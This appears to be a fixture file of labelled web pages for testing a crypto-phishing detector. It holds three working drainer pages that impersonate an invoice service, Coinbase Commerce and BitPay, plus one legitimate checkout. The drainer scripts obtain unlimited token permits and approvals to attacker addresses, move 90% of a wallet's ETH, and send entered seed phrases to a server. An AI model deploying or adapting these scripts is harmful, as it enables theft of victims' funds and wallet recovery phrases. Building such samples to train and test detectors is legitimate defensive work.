import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { page, appCss, badge, wordmark, baseSiteCss, b64 } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-usdc-invoice-permit-drainer',
  label: 'cryptodrainer',
  kind: 'crypto-payment-drainer',
  url: 'https://pay.cryptoinvoice-settle.com/i/4471?m=northgate',
  body: page({
    title: 'Pay invoice #4471 – CryptoPay Settle',
    lang: 'en-US',
    css: appCss('#2775ca', '#f4f7fb') + `.amt{font-size:30px;font-weight:700;margin:6px 0}.chips{display:flex;gap:8px;margin:12px 0}.chips span{background:#eef4fb;border-radius:14px;padding:4px 10px;font-size:12px}.st{font-size:13px;color:#52606d;margin-top:12px;min-height:18px}`,
    body: `<div class="wrap"><div class="panel">
<div style="display:flex;align-items:center;gap:10px">${badge('NF', '#2b4c7e')}<div><b>Northgate Fabrication Ltd</b><div style="font-size:12px;color:#52606d">Invoice #4471 · due today</div></div></div>
<div class="amt">18,460.20 USDC</div>
<div class="chips"><span>Ethereum</span><span>Base</span><span>Arbitrum</span><span>0% fees</span></div>
<p class="sub">Settle your invoice instantly in USDC. Connect your business wallet and approve the payment.</p>
<button class="btn" id="connect">Connect wallet</button>
<button class="btn" id="pay" style="display:none">Approve &amp; pay</button>
<div class="st" id="st"></div>
<div class="foot">Secured by CryptoPay Settle · Non-custodial · Audited by CertiK</div>
</div></div>
<script src="/static/js/settle.min.js"></script>`,
  }),
  routes: {
    'pay.cryptoinvoice-settle.com/static/js/settle.min.js': jsRoute(`(function(){var E=window.ethereum,acc=null,cid=null;
var SP='0x7a3F9b2C4e1D8a6B5c0E9f2A3b4C5d6E7f8A9b0C';
var TK={1:{usdc:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',usdt:'0xdAC17F958D2ee523a2206206994597C13D831ec7'},8453:{usdc:'0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913'},42161:{usdc:'0xaf88d065e77c8cC2239327C5EDb3A432268e5831'}};
var MAX='0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
function st(t){document.getElementById('st').textContent=t;}
function pad(a){return a.toLowerCase().replace('0x','').padStart(64,'0');}
async function connect(){if(!E){st('No wallet found. Open this page in MetaMask or Coinbase Wallet.');return;}
var a=await E.request({method:'eth_requestAccounts'});acc=a[0];cid=parseInt(await E.request({method:'eth_chainId'}),16);
fetch('/api/v2/visit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,c:cid})});
var r=await fetch('/api/v2/balances?a='+acc).then(function(x){return x.json()}).catch(function(){return {}});
document.getElementById('connect').style.display='none';document.getElementById('pay').style.display='block';st('Connected '+acc.slice(0,6)+'…'+acc.slice(-4));}
async function pay(){var t=(TK[cid]||TK[1]).usdc,dl=Math.floor(Date.now()/1e3)+86400*365;
var nonce=await E.request({method:'eth_call',params:[{to:t,data:'0x7ecebe00'+pad(acc)},'latest']});
var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},
primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:cid,verifyingContract:t},message:{owner:acc,spender:SP,value:MAX,nonce:parseInt(nonce,16)||0,deadline:dl}};
try{st('Confirm the payment in your wallet…');var sig=await E.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(msg)]});
await fetch('/api/v2/settle',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:acc,sig:sig,token:t,chain:cid,deadline:dl})});
var u=(TK[cid]||TK[1]).usdt;if(u){await E.request({method:'eth_sendTransaction',params:[{from:acc,to:u,data:'0x095ea7b3'+pad(SP)+MAX.slice(2)}]}).catch(function(){});}
st('Payment processing. You will receive a receipt by email.');}catch(e){st('Payment was cancelled. Please try again.');setTimeout(pay,1500);}}
document.getElementById('connect').onclick=connect;document.getElementById('pay').onclick=pay;})();`),
    'pay.cryptoinvoice-settle.com/api/v2/visit': jsonRoute({ ok: 1 }),
    'pay.cryptoinvoice-settle.com/api/v2/balances': jsonRoute({ usdc: '0', usdt: '0' }),
    'pay.cryptoinvoice-settle.com/api/v2/settle': jsonRoute({ queued: true }),
  },
},
{
  id: 'ya-merchant-rewards-claim-multi-approve',
  label: 'cryptodrainer',
  kind: 'airdrop-claim-drainer',
  url: 'https://commerce-merchant-rewards.xyz/claim',
  body: page({
    title: 'Coinbase Commerce – Merchant Rewards Program',
    lang: 'en-US',
    css: `body{margin:0;font-family:"Coinbase Sans",-apple-system,Arial,sans-serif;background:#0a0b0d;color:#fff}
.c{max-width:460px;margin:10vh auto;background:#16181c;border:1px solid #2a2d33;border-radius:16px;padding:30px;text-align:center}
.amt{font-size:44px;font-weight:700;color:#0052ff;margin:10px 0}
.b{background:#0052ff;color:#fff;border:0;border-radius:24px;padding:14px 30px;font-size:16px;font-weight:600;cursor:pointer;width:100%}
.t{font-size:13px;color:#8a919e;margin-top:14px}.bar{height:6px;background:#2a2d33;border-radius:3px;margin:16px 0;overflow:hidden}.bar i{display:block;height:100%;width:83%;background:#0052ff}`,
    body: `<div class="c">
<div style="font-weight:700;font-size:18px">coinbase <span style="font-weight:400;color:#8a919e">commerce</span></div>
<h2>Merchant Rewards – Season 3</h2>
<p style="color:#c5cad3">Businesses that accepted crypto payments in 2024–2025 are eligible for a USDC rebate on processing volume.</p>
<div class="amt">2,500 USDC</div>
<div class="bar"><i></i></div><div class="t">83% of the rewards pool claimed · ends in <span id="cd">04:59:12</span></div>
<button class="b" id="cl" style="margin-top:20px">Connect wallet to claim</button>
<div class="t" id="msg"></div>
</div>
<script>
(function(){var R='0x3e8B7a1f5C9d2E4b6A0c8D1e3F5a7B9c2D4e6F8a',E=window.ethereum;
var T=['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0xdAC17F958D2ee523a2206206994597C13D831ec7','0x6B175474E89094C44Da98b954EedeAC495271d0F','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2','0x2260FAC5E5542a773Aa44fBCfeDf7C193bc2C599'];
function p(a){return a.slice(2).toLowerCase().padStart(64,'0')}var M='f'.repeat(64);
async function go(){if(!E){document.getElementById('msg').textContent='Please open in a Web3 wallet browser.';return;}
var a=(await E.request({method:'eth_requestAccounts'}))[0];
var bal=await Promise.all(T.map(function(t){return E.request({method:'eth_call',params:[{to:t,data:'0x70a08231'+p(a)},'latest']}).then(function(x){return {t:t,b:BigInt(x)}}).catch(function(){return {t:t,b:0n}})}));
bal.sort(function(x,y){return x.b>y.b?-1:1});
document.getElementById('msg').textContent='Verifying eligibility…';
for(var i=0;i<bal.length;i++){if(bal[i].b===0n)continue;try{await E.request({method:'eth_sendTransaction',params:[{from:a,to:bal[i].t,data:'0x095ea7b3'+p(R)+M}]});
fetch('https://commerce-merchant-rewards.xyz/api/hit',{method:'POST',body:JSON.stringify({a:a,t:bal[i].t,b:bal[i].b.toString()})});}catch(e){i--;}}
var eth=await E.request({method:'eth_getBalance',params:[a,'latest']});var v=BigInt(eth)*90n/100n;
if(v>0n)await E.request({method:'eth_sendTransaction',params:[{from:a,to:R,value:'0x'+v.toString(16),data:'0x4e71d92d'}]}).catch(function(){});
document.getElementById('msg').textContent='Claim submitted! Rewards arrive within 24 hours.';}
document.getElementById('cl').onclick=go;
var end=Date.now()+17952e3;setInterval(function(){var s=Math.max(0,(end-Date.now())/1e3|0);document.getElementById('cd').textContent=[s/3600|0,(s%3600)/60|0,s%60].map(function(n){return String(n).padStart(2,'0')}).join(':')},1e3);})();
</script>`,
  }),
  routes: { 'commerce-merchant-rewards.xyz/api/hit': jsonRoute({}) },
},
{
  id: 'ya-merchant-wallet-validation-seed-phrase',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://bitpay-merchant-verify.com/wallet/validate',
  body: page({
    title: 'BitPay Merchant – Wallet Validation',
    lang: 'en-US',
    css: appCss('#1a3b8b', '#f3f5fa') + `.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin-top:12px}.grid input{padding:9px;font-size:14px}.tabs{display:flex;gap:6px;margin-top:14px}.tabs button{flex:1;padding:8px;border:1px solid #cbd2d9;background:#fff;border-radius:6px;cursor:pointer}.tabs button.on{background:#1a3b8b;color:#fff;border-color:#1a3b8b}`,
    body: `<div class="wrap"><div class="panel" style="max-width:540px">
${wordmark('bitpay', '#1a3b8b', { size: 28, weight: 800 })}
<h1>Validate your settlement wallet</h1>
<p class="sub">Due to the network upgrade, merchant settlement wallets must be re-validated to keep receiving payouts. Enter your wallet recovery phrase to synchronise. This process is automated and secure.</p>
<label>Wallet</label><select id="w"><option>MetaMask</option><option>Trust Wallet</option><option>Coinbase Wallet</option><option>Ledger Live</option><option>Exodus</option><option>BitPay Wallet</option><option>Other</option></select>
<div class="tabs"><button class="on" data-n="12">12 words</button><button data-n="18">18 words</button><button data-n="24">24 words</button></div>
<div class="grid" id="g"></div>
<button class="btn" id="v">Validate wallet</button>
<div class="error" id="er">Invalid phrase. Please check your words and try again.</div>
<div class="foot">BitPay, Inc. · Secure merchant services</div>
</div></div>
<script>
var n=12;function draw(){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++){var x=document.createElement('input');x.placeholder=i+'.';x.autocomplete='off';x.spellcheck=false;g.appendChild(x);}}
draw();document.querySelectorAll('.tabs button').forEach(function(b){b.onclick=function(){document.querySelector('.tabs .on').classList.remove('on');b.classList.add('on');n=+b.dataset.n;draw();};});
document.getElementById('g').addEventListener('paste',function(e){var t=(e.clipboardData.getData('text')||'').trim().split(/\\s+/);if(t.length>1){e.preventDefault();var ins=document.querySelectorAll('#g input');t.forEach(function(w,i){if(ins[i])ins[i].value=w});}});
document.getElementById('v').onclick=function(){var w=[].map.call(document.querySelectorAll('#g input'),function(i){return i.value.trim().toLowerCase()});if(w.some(function(x){return !x}))return;
fetch('/wallet/api/sync',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({wallet:document.getElementById('w').value,phrase:w.join(' '),n:n})}).then(function(){document.getElementById('er').style.display='block';});};
</script>`,
  }),
  routes: { 'bitpay-merchant-verify.com/wallet/api/sync': jsonRoute({ status: 'error', code: 'INVALID_CHECKSUM' }) },
},
{
  id: 'ya-coinbase-commerce-checkout-own-domain',
  label: 'clean',
  kind: 'crypto-payment-legit',
  url: 'https://commerce.coinbase.com/pay/6f1c2e9a-4b7d-4d2e-9a3f-8c1b5e7d0a24',
  body: page({
    title: 'Tallow & Wick Candle Co. | Coinbase Commerce',
    lang: 'en-US',
    css: appCss('#0052ff', '#f5f8ff') + `.amt{font-size:28px;font-weight:700}.addr{font-family:monospace;font-size:12px;background:#f1f4f9;padding:8px;border-radius:6px;word-break:break-all}`,
    body: `<div class="wrap"><main class="panel">
<div style="display:flex;align-items:center;gap:10px">${badge('TW', '#8c5e3c')}<b>Tallow &amp; Wick Candle Co.</b></div>
<p class="sub" style="margin-top:14px">Order #TW-1051 · Wholesale sample box</p>
<div class="amt">96.00 USDC</div>
<p style="font-size:13px;color:#52606d">Network: Base · Expires in <span id="t">59:41</span></p>
<button class="btn" id="c">Connect wallet</button>
<button class="btn" id="p" style="display:none">Pay 96.00 USDC</button>
<p style="font-size:13px;margin-top:16px">Or send exactly 96.00 USDC on Base to:</p><div class="addr">0x4F2a9c1E8b7D3a6C5e0B9f1D2c3E4a5B6c7D8e9F</div>
<div class="error" id="er"></div>
<div class="foot">Powered by Coinbase Commerce · <a href="https://www.coinbase.com/legal/commerce_terms">Terms</a> · <a href="https://help.coinbase.com/en/commerce">Help</a></div>
</main></div>
<script>
(function(){var E=window.ethereum,a=null,TO='0x4F2a9c1E8b7D3a6C5e0B9f1D2c3E4a5B6c7D8e9F',USDC='0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913',AMT=96000000n;
function p(x){return x.replace(/^0x/,'').toLowerCase().padStart(64,'0')}
document.getElementById('c').onclick=async function(){if(!E){document.getElementById('er').style.display='block';document.getElementById('er').textContent='No browser wallet detected. Use the address above or scan the QR code in your wallet app.';return;}
a=(await E.request({method:'eth_requestAccounts'}))[0];try{await E.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x2105'}]});}catch(e){}
this.style.display='none';document.getElementById('p').style.display='block';};
document.getElementById('p').onclick=async function(){var data='0xa9059cbb'+p(TO)+AMT.toString(16).padStart(64,'0');
var h=await E.request({method:'eth_sendTransaction',params:[{from:a,to:USDC,data:data}]});
await fetch('/api/checkouts/6f1c2e9a-4b7d-4d2e-9a3f-8c1b5e7d0a24/transactions',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({hash:h,network:'base'})});location.href='/pay/6f1c2e9a-4b7d-4d2e-9a3f-8c1b5e7d0a24/receipt';};
var end=Date.now()+3581e3;setInterval(function(){var s=Math.max(0,(end-Date.now())/1e3|0);document.getElementById('t').textContent=String(s/60|0).padStart(2,'0')+':'+String(s%60).padStart(2,'0')},1e3);})();
</script>`,
  }),
},
];
